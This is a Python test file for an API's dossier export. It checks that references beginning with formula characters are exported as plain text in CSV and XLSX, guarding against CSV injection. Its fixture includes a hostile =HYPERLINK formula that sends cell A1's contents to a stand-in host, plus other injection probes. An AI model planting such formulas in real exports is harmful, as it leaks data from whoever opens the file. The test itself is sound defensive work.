"""Exports never hand a spreadsheet a live formula: a partner-chosen text starting with `=`,
`+`, `-`, `@`, a tab or a carriage return comes out as text (issue 19, OWASP CSV injection)."""

import csv
import io
import uuid
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl  # type: ignore[import-untyped]
from sqlalchemy import insert
from sqlmodel import Session

from models.tables import Dossier
from tests.api.conftest import Pile

FORMULE = '=HYPERLINK("http://x.invalid/?"&A1;"ok")'
AUTRES = ["+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


async def test_a_formula_in_a_reference_is_exported_as_text_in_csv_and_xlsx(pile: Pile) -> None:
    dispositif = f"are-bilan-{uuid.uuid4().hex[:4]}"
    references = [FORMULE, *AUTRES, "REF-ORDINAIRE"]
    with Session(pile.engine) as session:
        session.execute(
            insert(Dossier),
            [
                {
                    "cle": f"{dispositif}:{rang:02d}",
                    "dispositif": dispositif,
                    "reference": reference,
                    "statut": "en_cours",
                    "montant_accorde": Decimal("-12.50"),
                    "anomalies": False,
                    "maj_le": datetime.now(UTC),
                }
                for rang, reference in enumerate(references)
            ],
        )
        session.commit()
    params = {"dispositif": dispositif}

    csv_ = await pile.http.get(
        "/dossiers/export", params={**params, "format": "csv"}, headers=pile.entetes("superviseur")
    )
    xlsx = await pile.http.get(
        "/dossiers/export", params={**params, "format": "xlsx"}, headers=pile.entetes("superviseur")
    )

    lignes = list(csv.reader(io.StringIO(csv_.text.lstrip("\ufeff")), delimiter=";"))
    par_cle = {ligne[0]: ligne for ligne in lignes[1:]}
    colonne = lignes[0].index("reference") if "reference" in lignes[0] else 2
    assert [par_cle[f"{dispositif}:{r:02d}"][colonne] for r in range(len(references))] == [
        *(f"'{ref}" for ref in [FORMULE, *AUTRES]),
        "REF-ORDINAIRE",
    ]
    feuille = openpyxl.load_workbook(io.BytesIO(xlsx.content))["dossiers"]
    cellules = {ligne[0].value: ligne for ligne in feuille.iter_rows(min_row=2)}
    for rang, reference in enumerate(references):
        cellule = cellules[f"{dispositif}:{rang:02d}"][2]
        assert cellule.value.strip() == reference.strip()  # XML stores a CR as a LF
        assert cellule.data_type == "s", (reference, cellule.data_type)
    montant = cellules[f"{dispositif}:00"][5]
    assert (montant.data_type, Decimal(str(montant.value))) == ("n", Decimal("-12.5"))
